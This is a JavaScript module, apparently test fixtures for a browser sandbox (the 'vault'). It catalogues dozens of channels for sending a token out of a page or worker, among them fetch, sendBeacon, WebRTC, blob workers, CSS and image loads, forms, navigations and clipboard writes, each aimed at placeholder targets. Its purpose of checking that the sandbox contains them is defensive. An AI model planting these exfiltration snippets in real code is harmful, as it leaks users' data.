// The channels by which something could leave a browser. Each attempt runs in a document or in a worker as it stands here,
// knowing nothing but its target `to` (target in stage.mjs) and the helpers there. One that throws has not got out; the
// sinks decide about the rest. Fields of one:
//   name       as it is reported
//   document, worker, both   the attempt from there. What is tried from a worker is also tried from the vault's second
//                            one, the decoder of Parquet files and workbooks
//   udp, tcp   it gets a port of its own of that kind
//   alone      it takes its document away, so it has a frame to itself
//   click      it runs on a real click, in a frame of its own
//   top        it may take the whole page away
//   nested     it starts a worker
//   witnessed  it reaches other pages of the browser, not a server; clipboard: the clipboard
//   reporting  its unprotected page sends violation reports

/** The places of the vault, and those of an unprotected page. */
export const PLACES = ["document", "worker", "decoder"];
export const OPEN_PLACES = ["document", "worker"];

/** Scripts that ask for something. */
const REQUESTS = [
  {
    name: "fetch",
    both(to) {
      for (const url of [to.foreign, to.own, to.named])
        quiet(fetch(url, { mode: "no-cors", method: "POST", body: to.token }));
      quiet(fetch(to.foreign, { mode: "no-cors", keepalive: true }));
    },
  },
  {
    name: "XMLHttpRequest",
    both(to) {
      const ask = (url, later) => () => {
        const request = new XMLHttpRequest();
        request.open("GET", url, later);
        request.send();
      };
      all(ask(to.foreign, true), ask(to.own, true), ask(to.foreign, false));
    },
  },
  { name: "WebSocket", both: (to) => void new WebSocket(to.socket) },
  { name: "EventSource", both: (to) => [to.foreign, to.own].forEach((url) => new EventSource(url)) },
  {
    name: "sendBeacon",
    document: (to) => [to.foreign, to.own].forEach((url) => navigator.sendBeacon(url, to.token)),
  },
  {
    name: "WebTransport",
    udp: true,
    both(to) {
      const transport = new WebTransport(`https://127.0.0.1:${to.udp}/`);
      quiet(transport.ready);
      quiet(transport.closed);
    },
  },
  { name: "importScripts", worker: (to) => importScripts(`${to.own}.js`, `${to.foreign}.js`) },
  { name: "dynamic import", both: (to) => [to.own, to.foreign].forEach((url) => quiet(import(`${url}.js`))) },
  { name: "font", both: (to) => quiet(new FontFace("exfiltrated", `url("${to.foreign}")`).load()) },
  { name: "worker from a file", nested: true, both: (to) => void new Worker(`${to.own}.js`) },
  {
    name: "worker from a blob",
    nested: true,
    both(to) {
      const script = `fetch("${to.foreign}", { mode: "no-cors" }).catch(() => {}); importScripts("${to.foreign}.js")`;
      void new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" })));
    },
  },
  {
    name: "worker from a data address",
    nested: true,
    both(to) {
      void new Worker(
        `data:text/javascript,${encodeURIComponent(`fetch("${to.foreign}", { mode: "no-cors" }).catch(() => {})`)}`,
      );
    },
  },
  { name: "shared worker", document: (to) => void new SharedWorker(`${to.own}.js`) },
  { name: "service worker", document: (to) => quiet(navigator.serviceWorker.register(`${to.own}.js`)) },
  {
    name: "WebRTC",
    udp: true,
    tcp: true,
    both(to) {
      connect(RTCPeerConnection, to);
    },
  },
  {
    name: "WebRTC, constructor recovered from a child frame",
    udp: true,
    tcp: true,
    document(to) {
      all(
        () => connect(add("iframe", {}).contentWindow.RTCPeerConnection, to),
        () => add("iframe", { srcdoc: `<script>(${connect})(RTCPeerConnection, ${JSON.stringify(to)})</script>` }),
        () =>
          add("iframe", { src: "javascript:void 0" }).contentWindow.eval(
            `(${connect})(RTCPeerConnection, ${JSON.stringify(to)})`,
          ),
      );
    },
  },
  {
    name: "postMessage to the page",
    witnessed: true,
    document(to) {
      all(
        () => parent.postMessage(to.token, "*"),
        () => top.postMessage(to.token, "*"),
      );
    },
  },
  {
    name: "BroadcastChannel",
    witnessed: true,
    both: (to) => new BroadcastChannel("exfiltration").postMessage(to.token),
  },
  {
    name: "storage shared with the site",
    witnessed: true,
    both(to) {
      all(
        () => localStorage.setItem(to.token, "1"),
        () => quiet(caches.open(to.token)),
        () => (indexedDB.open(to.token).onerror = (event) => event.preventDefault()),
      );
    },
  },
  {
    name: "clipboard",
    click: true,
    clipboard: true,
    document(to) {
      const field = add("textarea", { value: to.token });
      field.select();
      all(
        () => document.execCommand("copy"),
        () => quiet(navigator.clipboard.writeText(to.token)),
      );
    },
  },
];

/** Elements of a document that fetch something, or hint at it, or say that they were not allowed to. */
const ELEMENTS = [
  {
    name: "image",
    document(to) {
      all(
        () => (new Image().src = to.foreign),
        () => add("img", { srcset: `${to.own} 1x` }),
      );
    },
  },
  {
    name: "image in SVG",
    document(to) {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
      image.setAttribute("href", to.foreign);
      svg.append(image);
      document.body.append(svg);
    },
  },
  { name: "CSS url()", document: (to) => void (document.body.style.backgroundImage = `url("${to.foreign}")`) },
  { name: "style sheet", document: (to) => add("link", { rel: "stylesheet", href: to.foreign }) },
  {
    name: "CSS @import",
    document(to) {
      add("style", { textContent: `@import url("${to.foreign}");` });
    },
  },
  { name: "script element", document: (to) => add("script", { src: `${to.foreign}.js` }) },
  { name: "module script", document: (to) => add("script", { type: "module", src: `${to.foreign}.js` }) },
  {
    name: "audio and video",
    document(to) {
      all(
        () => add("video", { src: to.foreign, poster: to.own, preload: "auto" }),
        () => add("audio", { src: to.own, preload: "auto" }),
      );
    },
  },
  { name: "frame", document: (to) => [to.own, to.foreign].forEach((src) => add("iframe", { src })) },
  {
    name: "frame with a document of its own",
    document(to) {
      add("iframe", { srcdoc: `<img src="${to.foreign}"><link rel="stylesheet" href="${to.foreign}">` });
    },
  },
  {
    name: "frame from a blob",
    document(to) {
      add("iframe", { src: URL.createObjectURL(new Blob([`<img src="${to.foreign}">`], { type: "text/html" })) });
    },
  },
  {
    name: "object and embed",
    document: (to) =>
      all(
        () => add("object", { data: to.foreign }),
        () => add("embed", { src: to.own, type: "text/html" }),
      ),
  },
  {
    name: "prefetch",
    document: (to) => [to.own, to.foreign].forEach((href) => add("link", { rel: "prefetch", href })),
  },
  {
    name: "preload",
    document(to) {
      all(
        () => add("link", { rel: "preload", as: "image", href: to.foreign }),
        () => add("link", { rel: "modulepreload", href: `${to.foreign}.js` }),
      );
    },
  },
  {
    name: "preconnect",
    tcp: true,
    document: (to) => add("link", { rel: "preconnect", href: `http://127.0.0.1:${to.tcp}/` }),
  },
  {
    name: "preconnect by a link that was not made by createElement",
    tcp: true,
    document(to) {
      const href = `http://127.0.0.1:${to.tcp}/`;
      const markup = `<link rel="preconnect" href="${href}">`;
      all(
        () => {
          const link = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link").documentElement;
          document.body.append(Object.assign(link, { rel: "preconnect", href }));
        },
        () => document.body.insertAdjacentHTML("beforeend", markup),
        () => document.body.append(document.createRange().createContextualFragment(markup)),
        () => document.body.append(Document.parseHTMLUnsafe(markup).querySelector("link")),
      );
    },
  },
  {
    name: "DNS prefetch",
    document(to) {
      all(
        () => add("meta", { httpEquiv: "x-dns-prefetch-control", content: "on" }),
        () => add("link", { rel: "dns-prefetch", href: to.named }),
        () => add("link", { rel: "preconnect", href: to.named }),
        () => add("a", { href: to.named, textContent: "link" }),
      );
    },
  },
  {
    name: "speculation rules",
    document(to) {
      if (!HTMLScriptElement.supports("speculationrules")) throw new Error("not in this browser");
      add("script", {
        type: "speculationrules",
        textContent: JSON.stringify({ prefetch: [{ urls: [to.own], eagerness: "immediate" }] }),
      });
    },
  },
  {
    name: "ping of a link",
    alone: true, // in a srcdoc document even #here leads elsewhere
    document(to) {
      const link = add("a", { href: "#here", textContent: "ping" });
      link.ping = to.foreign;
      link.click();
    },
  },
  {
    name: "report of a violation",
    reporting: true, // its unprotected page has a policy that asks for reports
    document(to) {
      all(
        () =>
          add("meta", { httpEquiv: "Content-Security-Policy", content: `img-src 'none'; report-uri ${to.foreign}` }),
        () => (new Image().src = to.foreign),
      );
    },
  },
  {
    name: "site icon and manifest",
    document(to) {
      all(
        () => add("link", { rel: "icon", href: to.own }),
        () => add("link", { rel: "manifest", href: to.own }),
      );
    },
  },
];

/** Going somewhere else. */
const NAVIGATIONS = [
  { name: "navigation of the frame", alone: true, document: (to) => void (location = to.foreign) },
  { name: "navigation of the frame within the site", alone: true, document: (to) => void (location = to.own) },
  {
    name: "navigation to a blob",
    alone: true,
    document: (to) =>
      void (location = URL.createObjectURL(new Blob([`<img src="${to.foreign}">`], { type: "text/html" }))),
  },
  { name: "window.open on the frame itself", alone: true, document: (to) => void open(to.own, "_self") },
  {
    name: "meta refresh",
    alone: true,
    document: (to) => add("meta", { httpEquiv: "refresh", content: `0; url=${to.foreign}` }),
  },
  {
    name: "link followed in the frame",
    alone: true,
    document: (to) => add("a", { href: to.foreign, textContent: "link" }).click(),
  },
  { name: "form", alone: true, document: (to) => add("form", { action: to.foreign, method: "post" }).submit() },
  {
    name: "form in a new window",
    click: true,
    document: (to) => add("form", { action: to.foreign, target: "_blank" }).submit(),
  },
  { name: "popup", click: true, document: (to) => void open(to.foreign) },
  {
    name: "link in a new window",
    click: true,
    document: (to) => add("a", { href: to.foreign, target: "_blank", textContent: "link" }).click(),
  },
  {
    name: "download",
    click: true,
    document: (to) => add("a", { href: to.own, download: "data.txt", textContent: "link" }).click(),
  },
  {
    name: "navigation of the page",
    top: true,
    document(to) {
      all(
        () => (top.location = to.foreign),
        () => open(to.own, "_top"),
        () => add("a", { href: to.foreign, target: "_top", textContent: "link" }).click(),
      );
    },
  },
];

export const CHANNELS = [...REQUESTS, ...ELEMENTS, ...NAVIGATIONS].map(({ both, ...channel }) => {
  const worker = channel.worker ?? both;
  return { document: both, worker, decoder: worker, ...channel };
});
